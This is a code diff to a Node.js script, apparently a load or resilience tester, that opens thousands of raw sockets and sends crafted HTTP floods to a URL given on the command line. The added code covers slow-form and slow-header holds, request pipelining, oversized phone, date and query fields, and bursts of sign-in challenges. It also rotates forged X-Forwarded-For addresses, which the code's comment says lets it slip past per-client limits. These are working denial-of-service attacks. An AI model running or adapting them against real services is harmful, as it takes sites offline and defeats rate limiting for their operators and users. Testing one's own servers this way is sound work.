@@ -5,7 +5,7 @@
 import { connect, type Socket } from 'node:net'
 
 const [kind = '', url = '', path = '/'] = process.argv.slice(2)
-const { hostname, port } = new URL(url)
+const { host, hostname, port } = new URL(url)
 
 /** Keeps this many connections open. */
 function keepOpen(count: number, act: (socket: Socket) => NodeJS.Timeout | undefined): void {
@@ -29,17 +29,43 @@ const pageFlood = Buffer.from(get('/').repeat(2500))
 const body = `firstName=${'%3C'.repeat(14_000)}`
 const echoedForm = `POST /api/leads HTTP/1.1\r\nHost: localhost\r\nOrigin: ${url}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`
 
+/** Each one from another client in the same IPv6 network: the servers trust the header. */
+function post(to: string, content: string, type = 'application/x-www-form-urlencoded'): string {
+  const client = (clients++ % 65_536).toString(16)
+  return `POST ${to} HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: 2001:db8:1:${client}::1\r\nOrigin: ${url}\r\nContent-Type: ${type}\r\nContent-Length: ${content.length}\r\n\r\n${content}`
+}
+let clients = 0
+const longPhone = `phone=1${'+'.repeat(15_000)}y`
+const longDate = `dateOfBirth-month=0${'a'.repeat(15_000)}0&dateOfBirth-day=1&dateOfBirth-year=1965`
+const parameters = (count: number) => Array.from({ length: count }, (_, index) => `utm_${index}=x`).join('&')
+const hiddenFields = `campaign=${encodeURIComponent(parameters(800))}&asked=${'%3C'.repeat(1000)}`
+const campaignPage = get(`/?${parameters(200)}`)
+const refusedRequests = Buffer.from('GET / HTTP/1.1\r\nHost: localhost\r\nExpect: x\r\n\r\n'.repeat(1000))
+const startOfForm = `POST /api/leads HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 10000\r\n\r\n`
+
+/** Pipelines without reading. */
+function flood(requests: Buffer): void {
+  keepOpen(100, socket => {
+    socket.pause()
+    const write = () => {
+      while (!socket.destroyed && socket.write(requests));
+    }
+    socket.on('drain', write)
+    write()
+    return undefined
+  })
+}
+
+/** On each connection, each time. */
+function sendEvery(ms: number, connections: number, requests: () => readonly string[]): void {
+  keepOpen(connections, socket => {
+    socket.resume()
+    return setInterval(() => requests().map(request => socket.write(request)), ms)
+  })
+}
+
 const attacks: Readonly<Record<string, () => void>> = {
-  pipelining: () =>
-    keepOpen(100, socket => {
-      socket.pause()
-      const write = () => {
-        while (!socket.destroyed && socket.write(pageFlood));
-      }
-      socket.on('drain', write)
-      write()
-      return undefined
-    }),
+  pipelining: () => flood(pageFlood),
   slowReaders: () =>
     keepOpen(2000, socket => {
       socket.pause()
@@ -52,6 +78,18 @@ const attacks: Readonly<Record<string, () => void>> = {
       socket.write('GET / HTTP/1.1\r\nHost: localhost\r\n')
       return setInterval(() => socket.write('X-Patience: none\r\n'), 3000)
     }),
+  refusedRequests: () => flood(refusedRequests),
+  longFields: () =>
+    sendEvery(1000, 4, () => [post('/api/leads', longPhone), post('/api/leads', longDate), post('/stop', longPhone)]),
+  slowForms: () =>
+    keepOpen(1800, socket => {
+      socket.resume()
+      socket.write(startOfForm)
+      return setInterval(() => socket.write('x'), 8000)
+    }),
+  campaigns: () =>
+    sendEvery(100, 9, () => [post('/api/leads', hiddenFields), campaignPage, campaignPage, campaignPage]),
+  challenges: () => sendEvery(50, 50, () => [post('/api/session/sign-in/options', '{}', 'application/json')]),
   queryBombs: () =>
     keepOpen(8, socket => {
       socket.resume()
